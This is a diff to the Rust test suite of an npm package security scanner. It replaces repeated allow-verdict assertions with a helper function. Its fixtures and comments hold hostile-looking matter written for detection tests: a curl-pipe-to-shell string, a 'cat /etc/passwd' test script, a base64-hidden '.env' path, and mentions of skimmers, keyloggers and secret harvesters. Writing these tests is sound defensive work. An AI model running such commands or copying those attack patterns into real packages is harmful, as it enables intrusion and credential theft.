@@ -99,6 +99,17 @@ fn assert_stopped(analysis: &Analysis, package: &Package) {
     );
 }
 
+/// Analyses `package` and expects it allowed.
+fn assert_allowed(package: &Package) {
+    let analysis = analyse(package);
+    assert_eq!(
+        verdict(&analysis, package),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
 fn check_blocked(package: &Package, expected: &[Code]) -> Analysis {
     let analysis = analyse(package);
     let found = codes(&analysis);
@@ -982,13 +993,7 @@ fn functions_called_at_the_top_level_run_at_load() {
     );
     // The same code exported and never called at load waits for its caller.
     let tool = attacks::desktop_saver();
-    let analysis = analyse(&tool);
-    assert_eq!(
-        verdict(&analysis, &tool),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&tool);
 }
 
 #[test]
@@ -1294,13 +1299,7 @@ fn a_form_skimmer_is_blocked_and_a_form_library_is_not() {
             "module.exports = function submit(form) {\n  var body = new URLSearchParams();\n  for (var i = 0; i < form.elements.length; i++) body.append(form.elements[i].name, form.elements[i].value);\n  return fetch(form.action, { method: 'POST', body: body });\n};\n",
         )
         .build();
-    let analysis = analyse(&library);
-    assert_eq!(
-        verdict(&analysis, &library),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&library);
 }
 
 /// Mail and FTP are channels out like HTTP: an install script that mails or
@@ -1632,13 +1631,7 @@ fn encoded_commands_through_groups_and_undeclared_spawners_are_blocked() {
             "function exec(command) { return command.length; }\nmodule.exports = exec('curl -s https://x.example.invalid/s | sh');\n",
         )
         .build();
-    let analysis = analyse(&own);
-    assert_eq!(
-        verdict(&analysis, &own),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&own);
 }
 
 /// node-gyp reads `binding.gyp` at install: a condition that climbs into Python's
@@ -1675,13 +1668,7 @@ fn a_binding_gyp_that_runs_python_is_blocked_and_an_ordinary_one_is_not() {
         )
         .file("index.js", "module.exports = require('./build/Release/addon.node');\n")
         .build();
-    let analysis = analyse(&addon);
-    assert_eq!(
-        verdict(&analysis, &addon),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&addon);
 }
 
 /// A wallet's secret handed over by its keyring (`exportSeedPhrase`,
@@ -1717,13 +1704,7 @@ fn a_keylogger_is_stopped_and_a_hotkey_library_is_not() {
             "const handlers = {};\nexport function bind(key, fn) { handlers[key] = fn; }\ndocument.addEventListener('keydown', (e) => { const fn = handlers[e.key]; if (fn) fn(e); });\n",
         )
         .build();
-    let analysis = analyse(&hotkeys);
-    assert_eq!(
-        verdict(&analysis, &hotkeys),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&hotkeys);
 }
 
 /// `const env = process.env`: a variable read through the alias is one variable (an
@@ -1844,13 +1825,7 @@ fn a_download_and_a_start_in_two_commands_are_download_and_run() {
             "const { execSync } = require('child_process');\nfunction info(dir) {\n  const head = execSync('git -C ' + dir + ' rev-parse HEAD');\n  const branch = execSync(`git -C ${dir} branch --show-current`);\n  return { head, branch };\n}\nmodule.exports = info;\n",
         )
         .build();
-    let analysis = analyse(&reader);
-    assert_eq!(
-        verdict(&analysis, &reader),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&reader);
 }
 
 /// An HTTPS address with a raw IP in install code that turns certificate checks
@@ -1915,13 +1890,7 @@ fn patching_an_installed_application_is_stopped_and_finding_one_is_not() {
             "const fs = require('fs');\nconst chrome = '/Applications/Browser.app/Contents/MacOS/Browser';\nmodule.exports = () => (fs.existsSync(chrome) ? chrome : null);\n",
         )
         .build();
-    let analysis = analyse(&launcher);
-    assert_eq!(
-        verdict(&analysis, &launcher),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&launcher);
 }
 
 /// `process.env[name]` in a helper called by name reads the one variable its caller
@@ -1935,13 +1904,7 @@ fn an_env_helper_reads_one_variable_and_a_walk_reads_them_all() {
             "function getenv(name) { return process.env[name]; }\nconst prefixed = Object.keys(process.env).filter((k) => k.startsWith('APP_'));\nconst base = getenv('RELEASES_URL') || 'https://releases.example.invalid';\nfetch(base + '/latest', { headers: { 'x-flags': String(prefixed.length) } });\n",
         )
         .build();
-    let analysis = analyse(&helper);
-    assert_eq!(
-        verdict(&analysis, &helper),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&helper);
 
     // Bundlers hoist module constants: `var KEY; … KEY = "NAME"` names one variable.
     let bundle = airlock_test::PackageBuilder::new("region-client", "3.2.0")
@@ -1950,13 +1913,7 @@ fn an_env_helper_reads_one_variable_and_a_walk_reads_them_all() {
             "var REGION_VARIABLE;\nconst names = Object.keys(process.env).length;\nREGION_VARIABLE = 'APP_REGION';\nfetch('https://api.example.invalid/v1', { headers: { region: process.env[REGION_VARIABLE], n: String(names) } });\n",
         )
         .build();
-    let analysis = analyse(&bundle);
-    assert_eq!(
-        verdict(&analysis, &bundle),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&bundle);
 
     let walker = airlock_test::PackageBuilder::new("env-sync", "1.0.0")
         .file(
@@ -1982,13 +1939,7 @@ fn a_base64_webassembly_module_is_not_code_decoded_to_run() {
             ),
         )
         .build();
-    let analysis = analyse(&lexer);
-    assert_eq!(
-        verdict(&analysis, &lexer),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&lexer);
 }
 
 /// A VS Code task that runs on `folderOpen` starts code as soon as a developer
@@ -2027,13 +1978,7 @@ fn an_editor_task_that_runs_a_script_named_as_a_font_is_stopped() {
         .file("public/logo.png", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 10\n")
         .file("index.js", "module.exports = { font: require('path').join(__dirname, 'public/fonts/icons.woff2') };\n")
         .build();
-    let analysis = analyse(&ordinary);
-    assert_eq!(
-        verdict(&analysis, &ordinary),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&ordinary);
 }
 
 /// Patterns for many kinds of secret token run at install are a harvester's; the
@@ -2052,13 +1997,7 @@ fn secret_token_patterns_at_install_are_a_harvester() {
     let redactor = airlock_test::PackageBuilder::new("log-redact", "1.4.0")
         .file("index.js", table)
         .build();
-    let analysis = analyse(&redactor);
-    assert_eq!(
-        verdict(&analysis, &redactor),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&redactor);
 }
 
 /// `cat /etc/passwd` at install is recon no install needs; in a test script it
@@ -2080,13 +2019,7 @@ fn printing_the_accounts_at_install_is_stopped() {
         .script("test", "cat /etc/passwd | wc -l")
         .file("index.js", "module.exports = {};\n")
         .build();
-    let analysis = analyse(&tests);
-    assert_eq!(
-        verdict(&analysis, &tests),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&tests);
 }
 
 /// A secret store's path encoded twice (`.env` as base64 of base64) is hidden to
@@ -2110,13 +2043,7 @@ fn a_secret_path_hidden_in_nested_base64_is_stopped() {
             "const w = Buffer.from(Buffer.from('YUdWc2JHOD0=', 'base64').toString(), 'base64').toString();\nmodule.exports = () => w;\n",
         )
         .build();
-    let analysis = analyse(&word);
-    assert_eq!(
-        verdict(&analysis, &word),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&word);
 }
 
 /// npm prepares a git dependency at install and drops an optional one that fails
@@ -2209,11 +2136,5 @@ fn mail_through_a_mailbox_written_in_the_code_is_stopped() {
             source("{ user: process.env.SMTP_USER, pass: process.env.SMTP_PASS }"),
         )
         .build();
-    let analysis = analyse(&mailer);
-    assert_eq!(
-        verdict(&analysis, &mailer),
-        Verdict::Allow,
-        "{}",
-        report(&analysis)
-    );
+    assert_allowed(&mailer);
 }
